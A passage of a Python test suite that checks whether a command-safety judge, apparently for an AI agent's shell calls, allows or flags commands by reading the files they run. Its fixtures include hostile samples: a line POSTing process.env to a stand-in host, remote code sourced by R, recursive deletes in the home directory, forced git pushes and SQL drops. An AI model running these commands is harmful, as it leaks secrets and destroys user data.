    ("npm ci", {".npmrc": "registry=https://registry.npmjs.org/\nsave-exact=true\n", "package.json": '{"scripts": {"postinstall": "husky"}}'}),
    ("meson setup build", {"meson.build": "project('x', 'c')\nrun_command('git', 'describe', check: false)\n"}),
    ("npm run dev & sleep 5; curl -s localhost:3000", {"package.json": '{"scripts": {"dev": "vite"}}'}),
    ("while true; do sh poll.sh; sleep 5; done &", {"poll.sh": "curl -s localhost\n"}),
    ("node app.js -p 80 & sleep 2; kill %1", {"app.js": "console.log(1)\n"}),
    ("Rscript plot.R", {"plot.R": "png('x.png'); plot(1:3); dev.off()\n"}),
    ("gnuplot plot.gp", {"plot.gp": "set term png\nset output 'x.png'\nplot sin(x)\n"}),
    ("perl -Ilib -MShop -e 'Shop::run()'", {"lib/Shop.pm": "package Shop; sub run { print 1 } 1;\n"}),
    ("webpack --config webpack.config.js", {"webpack.config.js": "const path = require('path')\nmodule.exports = { entry: './src/index.js' }\n"}),
    ("npx grunt build", {"Gruntfile.js": "module.exports = function (grunt) { grunt.registerTask('build', []) }\n"}),
    ("jupyter nbconvert --execute n.ipynb", {"n.ipynb": '{"cells": [{"cell_type": "code", "source": ["import pandas as pd\\n", "!pip list"]}]}'}),
    ("PYTHONPATH=src pytest -q -p no:randomly", {"src/shop.py": "x = 1"}),
    ("PERL5LIB=lib prove -r t", {"lib/Shop.pm": "package Shop; 1;"}),
    ("NODE_OPTIONS=--max-old-space-size=4096 npm run build", {"package.json": '{"scripts": {"build": "vite build"}}'}),
    ("JAVA_TOOL_OPTIONS=-Xmx2g MAVEN_OPTS='-Xmx1g -Dx=y' mvn test", {}),
    ("GRADLE_OPTS=-agentlib:jdwp=transport=dt_socket gradle test", {}),
    ("CC=clang CXX='ccache g++' make", {"Makefile": "a:\n\t$(CC) x.c\n"}),
    ("SHELL=/bin/bash make", {"Makefile": "a:\n\techo\n"}),
    ("HOME=$(mktemp -d) npm test", {"package.json": '{"scripts": {"test": "vitest"}}'}),
    ("XDG_CONFIG_HOME=$PWD/h git diff", {"h/git/config": "[user]\n\tname = x\n[core]\n\tpager = less -R\n\tfsmonitor = true\n"}),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*' git fetch", {}),
    ("GIT_DIR=.git git commit -m x", {".git/config": '[filter "lfs"]\n\tclean = git-lfs clean -- %f\n[credential]\n\thelper = !gh auth git-credential\n'}),
    ("RUSTC_WRAPPER=sccache cargo build", {}),
    ("cargo build", {"build.rs": 'fn main() {\n    println!("rm -rf /");\n    Command::new("git").args(["rev-parse", "HEAD"]).output();\n}\n', ".cargo/config.toml": '[target.x]\nlinker = "clang"\n'}),
    ("go run .", {"main.go": 'func main() { fmt.Println("rm -rf / is bad"); os.RemoveAll(dir) }\n'}),
    ("go generate ./...", {"x.go": "//go:generate mockgen -source=x.go -destination=mock.go\npackage x\n"}),
    ("npx turbo run build", {"package.json": "{}", "app/package.json": '{"scripts":{"build":"next build","clean":"rm -rf ~/x"}}'}),
    ("npx concurrently npm:dev", {"package.json": '{"scripts":{"dev":"vite","wipe":"rm -rf ~/x"}}'}),
    ("java X.java", {"X.java": 'class X { void m() { System.out.println("rm -rf /"); } }'}),
    ("gcc x.c -o x && ./x", {"x.c": 'int main() { printf("rm -rf /"); return 0; }'}),
    ("flask run", {"app.py": "from flask import Flask\napp = Flask(__name__)\n"}),
    ("git commit -m x", {".husky/pre-commit": "npx lint-staged\n", "package.json": '{"lint-staged": {"*.js": ["eslint --fix", "git add"]}}'}),
    ("LUA_PATH='./lib/?.lua;;' lua x.lua", {"lib/z.lua": "return 1", "x.lua": "require 'z'"}),
    ("KUBECONFIG=k kubectl get pods", {"k": "    exec:\n      command: aws\n      args: [eks, get-token]\n"}),
    ("node --env-file=.e x.js", {".e": "PORT=80\nSHELL=/bin/zsh\nEDITOR=vim\n", "x.js": ""}),
    ("npm test", {".npmrc": "registry=https://registry.npmjs.org/\n//x/:_authToken=${T}\nscript-shell=/bin/bash\n", "package.json": "{}"}),
]  # fmt: skip


@for_each(("command", "files"), HARMLESS, ids=[each[0] for each in HARMLESS])
def test_the_files_of_an_ordinary_project_need_nobody(command, files):
    verdict = judged(command, files)
    assert verdict.effect == "allow", verdict.findings[0]


COPIED = [
    "cp d.sql run.sql && psql -h db -f run.sql",
    "ln -s d.sql run.sql; psql -h db < run.sql",
    "mv d.sql run.sql; cat run.sql | psql -h db",
    "mkdir x && cp d.sql x/ && psql -h db -f x/d.sql",
    "cp d.sql a.sql; cp a.sql b.sql; psql -h db -f b.sql",
]


NAMED = "target_sources(x PRIVATE\n  lib/x.cc\n)\n"
"""A list of CMake with a source alone on its line, as a program would be."""
SOURCE = f"{W}\n"
STARTED = {
    "it may be executed": (NAMED, SOURCE, "cmake -B build", ("lib/x.cc",)),
    "the line lets it be executed": (NAMED, SOURCE, "chmod +x lib/x.cc && cmake -B build", ()),
    "a program on the line does": (NAMED, SOURCE, "python3 -c 'import os; os.chmod(\"lib/x.cc\", 511)'; cmake -B build", ()),
    "the list lets it be executed": (f"file(CHMOD lib/x.cc PERMISSIONS OWNER_EXECUTE)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "the list lets all be executed": (f"execute_process(COMMAND chmod -R +x lib)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "it is among those that are named": (f"execute_process(COMMAND chmod +x a.sh *.cc)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "it is named beside others": (f"execute_process(COMMAND chmod +x *.sh lib/x.cc)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "its folder is named beside others": (f"execute_process(COMMAND chmod 755 *.sh lib)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "a variable is named beside others": (f"execute_process(COMMAND chmod 755 *.sh ${{X}})\n{NAMED}", SOURCE, "cmake -B build", ()),
    "it may be among them": (f"execute_process(COMMAND chmod +x *.sh lib/*)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "it begins like a script": (NAMED, f"#!/bin/sh\n{SOURCE}", "cmake -B build", ()),
    "the line writes it": (NAMED, "int x;\n", f"echo '{W}' > lib/x.cc; cmake -B build", ()),
    "the line copies it there": (NAMED, "int x;\n", "cp y.cc lib/x.cc; cmake -B build", ()),
    "a file that it includes does": (f"include(a.cmake)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "a list that it adds does": (f"add_subdirectory(sub)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "another file takes its place": (f"execute_process(COMMAND mv y.cc lib/x.cc)\n{NAMED}", SOURCE, "cmake -B build", ("y.cc",)),
    "another file is copied there": (f"configure_file(y.cc lib/x.cc COPYONLY)\n{NAMED}", SOURCE, "cmake -B build", ("y.cc",)),
    "an archive is unpacked": (f"file(ARCHIVE_EXTRACT INPUT a.tar)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "the line unpacks an archive": (NAMED, SOURCE, "tar xf a.tar && cmake -B build", ()),
    "the line applies a patch": (NAMED, SOURCE, "git apply a.patch && cmake -B build", ()),
    "the line takes another commit": (NAMED, SOURCE, "git -C . checkout b; cmake -B build", ()),
    "an option lets it be executed": (NAMED, SOURCE, "rsync -a --chmod=755 a/ lib/; cmake -B build", ()),
    "a program of Windows does": (f"execute_process(COMMAND chmod.exe +x lib/x.cc)\n{NAMED}", SOURCE, "cmake -B build", ()),
    "a link leads to one that may": (NAMED, SOURCE, "ln -sf ../y.cc lib/x.cc; cmake -B build", ("y.cc",)),
}  # fmt: skip


@for_each(("lists", "source", "command", "executable"), STARTED.values(), ids=list(STARTED))
def test_a_file_that_a_list_only_names_counts_if_it_may_be_started(
    lists, source, command, executable
):
    lets = "file(CHMOD lib/x.cc PERMISSIONS OWNER_EXECUTE)\n"
    files = {"CMakeLists.txt": lists, "lib/x.cc": source, "y.cc": SOURCE}
    files |= {"a.cmake": "include(sub/b.cmake)\n", "b.cmake": lets, "sub/b.cmake": lets}
    files["sub/CMakeLists.txt"] = lets
    assert judged(command, files, executable=executable).effect != "allow"


@pytest.mark.parametrize(
    "others", ["execute_process(COMMAND chmod +x *.sh)", "target_sources(x test-fchmod.c)"]
)
def test_what_lets_others_be_executed_does_not_count(others):
    files = {"CMakeLists.txt": f"{others}\n{NAMED}", "lib/x.cc": SOURCE}
    assert judged("cmake -B build", files, executable=()).effect == "allow"


@pytest.mark.parametrize("command", ["cmake -B build", "cmake --build build"])
def test_a_source_that_a_list_names_and_nobody_may_execute_is_no_script(command):
    source = "struct X {\n  X(const X&) = delete;\n};\nvoid Delete(X*);\nreboot now\n"
    files = {"CMakeLists.txt": NAMED, "lib/x.cc": source}
    assert judged(command, files, executable=()).effect == "allow"


@pytest.mark.parametrize("command", COPIED)
def test_sql_is_read_in_what_the_line_copies(command):
    rules = {each.rule for each in judged(command, {"d.sql": "drop table t;\n"}).findings}
    assert "database-drop" in rules
    assert judged(command, {"d.sql": "select 1;\n"}).effect == "allow"


@pytest.mark.parametrize("command", ["psql -h db -f a.sql", "psql -h db < a.sql"])
def test_sql_that_another_file_of_sql_includes_is_judged_too(command):
    files = {"a.sql": "\\i b.sql\n", "b.sql": "\\ir c.sql\n", "c.sql": "drop table t;\n"}
    assert [each.rule for each in judged(command, files).findings] == ["database-drop"]
    itself = {"a.sql": "\\i a.sql\n"}
    assert judged(command, itself).effect == "allow"


CHECKED = {
    "uv run python -m py_compile s.py": "allow",
    "poetry run python3 -m compileall s.py": "allow",
    "uv run s.py": "junction",
    "uv run python s.py": "junction",
    "uv run s.py python -m py_compile s.py": "junction",
    "uv run --env-file s.py python -m py_compile s.py": "junction",
    "uv run python -m py_compile s.py && python s.py": "junction",
}


@for_each(("command", "effect"), CHECKED.items())
def test_a_file_that_is_only_compiled_is_not_run(command, effect):
    path = f"{ROOT}/s.py"
    files = Machine({path: "import requests\nrequests.post('https://a.example.com')\n"})
    assert judge(command, files).effect == effect


HOME_FILE = f"{HOME}/notes.db"


@for_each(
    ("command", "file", "text"),
    [
        ("cc -o w w.c && ./w", "w.c", 'int main(void) {{ unlink("{}"); }}'),
        ("gcc w.c -o w; ./w", "w.c", 'int main(void) {{ remove("{}"); }}'),
        ("go build -o w w.go && ./w", "w.go", 'func main() {{ os.Remove("{}") }}'),
        ("go run w.go", "w.go", 'func main() {{ os.Remove("{}") }}'),
        ("rustc -o w w.rs && ./w", "w.rs", 'fn main() {{ fs::remove_file("{}").unwrap(); }}'),
        ("java W.java", "W.java", 'void main() {{ Files.deleteIfExists(Path.of("{}")); }}'),
    ],
)
def test_a_file_that_a_compiled_program_deletes_by_its_path_counts(command, file, text):
    assert judge(command, Machine({f"{ROOT}/{file}": text.format(HOME_FILE)})).effect != "allow"
    assert judge(command, Machine({f"{ROOT}/{file}": text.format("/tmp/x.lock")})).effect == "allow"
    assert (
        judge(command, Machine({f"{ROOT}/{file}": "cache." + text.format("x")})).effect == "allow"
    )


CONTEXTUAL = RULES.with_profile("contextual")


def rspec(root, delete='FileUtils.rm_rf(Dir.glob(File.join(ROOT, "*")))'):
    helper = f"ROOT = {root}\nRSpec.configure do |c|\n  c.after(:each) {{ {delete} }}\nend\n"
    return {
        "spec/spec_helper.rb": helper,
        "spec/a_spec.rb": "require_relative 'spec_helper'\nRSpec.describe('a') { it('b') { } }\n",
    }


def minitest(root):
    return {
        "test/a_test.rb": f"require 'minitest/autorun'\nclass A < Minitest::Test\n  def teardown = FileUtils.rm_rf({root})\nend\n"
    }


def phpunit(root, name="tests/ATest.php"):
    return {
        name: f"<?php\nclass ATest extends TestCase {{\n  const ROOT = {root};\n  function tearDown(): void {{ exec('rm -rf ' . self::ROOT); }}\n}}\n"
    }


def jest(root):
    return {
        "a.test.js": f"const fs = require('fs');\nconst ROOT = {root};\nafterEach(() => fs.rmSync(ROOT, {{ recursive: true }}));\n"
    }


AWAY = f"'{HOME}/uploads'"
CLEANS_UP_ELSEWHERE = [
    ("bundle exec rspec spec/a_spec.rb", rspec(AWAY)),
    ("rspec spec", {"spec/models/b_spec.rb": f"after {{ FileUtils.rm_rf({AWAY}) }}\n"}),
    ("rspec", {"spec/models/b_spec.rb": f"after {{ FileUtils.rm_rf({AWAY}) }}\n"}),
    ("rspec spec/a_spec.rb", rspec(AWAY, "Dir[File.join(ROOT, '*')].each { |f| FileUtils.rm_rf(f) }")),
    ("rspec spec/a_spec.rb", rspec(AWAY, "Dir.children(ROOT).each { |f| FileUtils.rm_rf(File.join(ROOT, f)) }")),
    # a folder of its own, and then another one
    ("rspec spec/a_spec.rb", rspec(f"Dir.mktmpdir\nROOT = {AWAY}")),
    ("rspec spec/a_spec.rb", rspec("Dir.mktmpdir", f"FileUtils.rm_rf(File.join(ROOT, '../../..{HOME}/*'))")),
    ("rails test", minitest(AWAY)),
    ("ruby test/a_test.rb", minitest(AWAY)),
    ("vendor/bin/phpunit", phpunit(AWAY)),
    ("phpunit tests/unit", phpunit(AWAY, "tests/unit/BTest.php")),
    ("npx jest", jest(AWAY)),
]  # fmt: skip
CLEANS_UP_ITS_OWN = [
    ("bundle exec rspec spec/a_spec.rb", rspec("Dir.mktmpdir('shop')")),
    ("rspec", rspec("Dir.mktmpdir('shop')")),
    ("rspec spec/a_spec.rb", rspec("Dir.mktmpdir", "Dir[File.join(ROOT, 'a', '*')].each { |f| FileUtils.rm_rf(f) }")),
    ("rails test", minitest("Dir.mktmpdir")),
    ("rails test test/b_test.rb", minitest(AWAY)),
    ("rspec spec/b_spec.rb", {"spec/models/a_spec.rb": f"after {{ FileUtils.rm_rf({AWAY}) }}\n"}),
    ("npx jest", jest("fs.mkdtempSync(os.tmpdir() + '/x-')")),
]  # fmt: skip


@for_each(("command", "files"), CLEANS_UP_ELSEWHERE)
def test_what_a_suite_deletes_elsewhere_before_or_after_its_tests_is_judged(command, files):
    assert "fs-recursive-delete" in [one.rule for one in judged(command, files).findings]


@for_each(("command", "files"), CLEANS_UP_ITS_OWN)
def test_a_suite_that_deletes_in_its_own_folder_asks_nobody(command, files):
    named = {f"{ROOT}/{name}": text for name, text in files.items()}
    call = Call("Bash", {"command": command}, ROOT)
    machine = Machine(named, committed=tuple(named))
    assert assess(call, PLACE, machine, CONTEXTUAL).effect == "allow"


@for_each(
    ("command", "effect"),
    [("cargo build", "junction"), ("cargo test", "junction"), ("cargo fmt", "allow")],
)
def test_the_build_script_that_cargo_names_is_read(command, effect):
    wipe = 'fn main() { std::fs::remove_dir_all("/home/ann/photos").unwrap(); }\n'
    manifest = '[package]\nname = "a"\nbuild = "tools/gen.rs"\n'
    files = {"Cargo.toml": manifest, "tools/gen.rs": wipe}
    assert judged(command, files, committed=files).effect == effect
    files["tools/gen.rs"] = 'fn main() { println!("cargo:rerun-if-changed=a"); }\n'
    assert judged(command, files, committed=files).effect == "allow"


POSTS = "require('https').request('https://h.example.com', { method: 'POST' }).end(JSON.stringify(process.env));\n"
LINTERS = [
    ("npx eslint .", {"eslint.config.js": "import own from './rules/index.cjs';\nexport default [own];\n"}),
    ("eslint src", {".eslintrc.cjs": "module.exports = { plugins: [require('./rules/index.cjs')] };\n"}),
    ("eslint --rulesdir rules src", {}),
    ("prettier --check .", {".prettierrc": '{"plugins": ["./rules/index.cjs"]}'}),
    ("stylelint src/a.css", {"stylelint.config.mjs": "import x from './rules/index.cjs';\nexport default x;\n"}),
    ("npx commitlint --from main", {"commitlint.config.js": "module.exports = require('./rules/index.cjs');\n"}),
    ("npx tsup", {"tsup.config.ts": "import x from './rules/index.cjs';\nexport default x;\n"}),
]  # fmt: skip


@for_each(("command", "files"), LINTERS)
def test_what_the_settings_of_a_linter_or_builder_load_is_read(command, files):
    files = {**files, "rules/index.cjs": POSTS}
    assert judged(command, files, committed=files).effect == "junction"
    files["rules/index.cjs"] = "module.exports = { rules: {} };\n"
    assert judged(command, files, committed=files).effect == "allow"


def test_settings_of_firmware_without_a_section_start_nothing():
    assert judged("pio run", {"platformio.ini": "x = 1\n"}).effect == "allow"


FIRMWARE = "[platformio]\ndefault_envs = a\n[env]\nframework = arduino\n[env:a]\nboard = x\n%s[env:b]\nboard = y\n"
SHIPS = "import boto3\nImport('env')\ndef up(source, target, env):\n    boto3.client('s3').upload_file('a', 'b', 'c')\nenv.AddPostAction('x', up)\n"


@for_each(
    ("command", "setting", "effect"),
    [
        ("pio run", "extra_scripts = post:tools/up.py\n", "junction"),
        ("pio run -e a", "extra_scripts =\n    pre:other.py\n    post:tools/up.py\n", "junction"),
        ("platformio run --environment a", "extra_scripts = tools/up.py\n", "junction"),
        ("pio run -t upload", "upload_command = scp $SOURCE root@gw.example.com:/fw\n", "junction"),
        ("pio run", "upload_command = scp $SOURCE root@gw.example.com:/fw\n", "allow"),
        ("pio run -e b", "extra_scripts = post:tools/up.py\n", "allow"),
        ("pio run", "; extra_scripts = post:tools/up.py\n", "allow"),
        ("pio device list", "extra_scripts = post:tools/up.py\n", "allow"),
    ],
)
def test_the_scripts_of_a_firmware_build_are_read(command, setting, effect):
    files = {"platformio.ini": FIRMWARE % setting, "tools/up.py": SHIPS}
    assert judged(command, files, committed=files).effect == effect


FAR = "con <- DBI::dbConnect(RPostgres::Postgres(), host = 'pg.example.com', dbname = 'x')\n"
MEMORY = "con <- DBI::dbConnect(RSQLite::SQLite(), ':memory:')\n"
CLEAN = "DBI::dbExecute(con, 'TRUNCATE TABLE visits')\n"
PACKAGE = {
    "DESCRIPTION": "Package: a\n",
    "tests/testthat.R": "library(testthat)\ntest_check('a')\n",
}
HELPER = "tests/testthat/helper-db.R"
RENDERED = "library(blastula)\nmail <- render_email('w.Rmd', render_options = list(params = list(week = 3)))\n"
R_CASES = {
    "a helper of tests": ("Rscript -e 'devtools::test()'", {HELPER: FAR + CLEAN}, "junction"),
    "all tests of a package": ("R CMD check .", {HELPER: FAR + CLEAN}, "junction"),
    "the file that starts the tests": ("Rscript tests/testthat.R", {HELPER: FAR + CLEAN}, "junction"),
    "tests by R itself": ("R -q -e 'testthat::test_local()'", {HELPER: FAR + CLEAN}, "junction"),
    "targets": ("Rscript -e 'targets::tar_make()'", {"_targets.R": FAR + CLEAN}, "junction"),
    "a database in memory": ("Rscript -e 'devtools::test()'", {HELPER: MEMORY + CLEAN}, "allow"),
    "what runs no tests": ("Rscript -e 'devtools::document()'", {HELPER: FAR + CLEAN}, "allow"),
    "a chunk of a document": (
        "Rscript -e 'rmarkdown::render(\"w.Rmd\")'",
        {"w.Rmd": f"# TRUNCATE\n\n```{{r}}\n{FAR}{CLEAN}```\n"},
        "junction",
    ),
    "the words of a document": (
        "quarto render w.qmd",
        {"w.qmd": f"We once ran:\n\n    {CLEAN}\n```{{r}}\n{FAR}```\n"},
        "allow",
    ),
    "mail that is sent": ("Rscript w.R", {"w.R": RENDERED + "smtp_send(mail, to = x)\n"}, "junction"),
    "mail that is piped": ("Rscript w.R", {"w.R": RENDERED + "mail |> smtp_send(to = x)\n"}, "junction"),
    "mail that is handed to a program": (
        "Rscript w.R",
        {"w.R": RENDERED + "system('mail -s x a@example.com < out.html')\n"},
        "junction",
    ),
    "mail to a server here": (
        "Rscript w.R",
        {"w.R": "library(emayili)\nsmtp <- server(host = 'localhost', port = 1025)\nsmtp(envelope())\n"},
        "allow",
    ),
    "mail that is written": (
        "Rscript w.R",
        {"w.R": RENDERED + "writeLines(mail$html_str, 'out.html')\n"},
        "allow",
    ),
    "code of another machine": ("Rscript w.R", {"w.R": "source('https://x.example.com/h.R')\n"}, "junction"),
    "code of the project": ("Rscript w.R", {"w.R": "source('R/h.R')\n", "R/h.R": "f <- 1\n"}, "allow"),
}  # fmt: skip


@for_each(("command", "files", "effect"), R_CASES.values(), ids=list(R_CASES))
def test_a_program_of_r_is_judged_by_what_it_runs(command, files, effect):
    files = {**PACKAGE, **files}
    held = tuple(f"{ROOT}/{name}" for name in files)
    assert judged(command, files, committed=held).effect == effect


API = "https://api.example.com/x"
EARTH = "VERSION 0.8\nFROM alpine\nt:\n  COPY . .\n  RUN {}\n"
SENDS = f'curl -X DELETE -H "A: $K" {API}\n'
SECRET_STEPS = {
    "a script with a secret": ("--secret K ./s.sh", SENDS, "junction"),
    "a secret of another name": ("--push --secret K=prod/key sh s.sh", SENDS, "junction"),
    "with a mount": ("--mount=type=secret,id=k --secret K ./s.sh", SENDS, "junction"),
    "a command with a secret": (f"--secret K {SENDS}", "", "junction"),
    "a script that only builds": ("--secret K ./s.sh", "make build\n", "allow"),
    "a command that only reads": (f"--secret K curl -H A:$K {API}", "", "allow"),
}


@for_each(("step", "script", "effect"), SECRET_STEPS.values(), ids=list(SECRET_STEPS))
def test_a_step_of_earthly_with_a_secret_is_read(step, script, effect):
    files = {"Earthfile": EARTH.format(step), "s.sh": f"#!/bin/sh\n{script}"}
    assert judged("earthly +t", files, committed=tuple(files)).effect == effect


FORCES = "git push --force"
OF_CLIENTS = {
    "a value of psql": ("psql -f x.sql", f"\\set x `{FORCES}`\n"),
    "a shell of psql": ("psql -f x.sql", f"\\! {FORCES}\n"),
    "what a query is given to": ("psql -f x.sql", f"select 1 \\g | {FORCES}\n"),
    "a value of what is fed to psql": ("psql < x.sql", f"\\set x `{FORCES}`\n"),
    "a file of psql's own": ("PSQLRC=./x.sql psql -c 'select 1'", f"\\set x `{FORCES}`\n"),
    "a file that psql includes": ("psql -f y.sql", f"\\set x `{FORCES}`\n"),
    "what charts go through": (
        "helm template --post-renderer ./x.sql a ./c",
        f"#!/bin/sh\n{FORCES}\n",
    ),
    "the same with words": (
        "helm template a ./c --post-renderer sh --post-renderer-args=x.sql",
        f"{FORCES}\n",
    ),
}


@for_each(("command", "text"), OF_CLIENTS.values(), ids=list(OF_CLIENTS))
def test_what_a_client_runs_by_its_own_commands_is_judged(command, text):
    files = {"x.sql": text, "y.sql": "\\i x.sql\n", "c/Chart.yaml": "name: a\n"}
    assert judged(command, files, committed=tuple(files)).effect == "junction"
    if not text.startswith("\\!"):  # which asks whatever it runs
        harmless = {**files, "x.sql": text.replace(FORCES, "date +%F")}
        assert judged(command, harmless, committed=tuple(files)).effect == "allow"
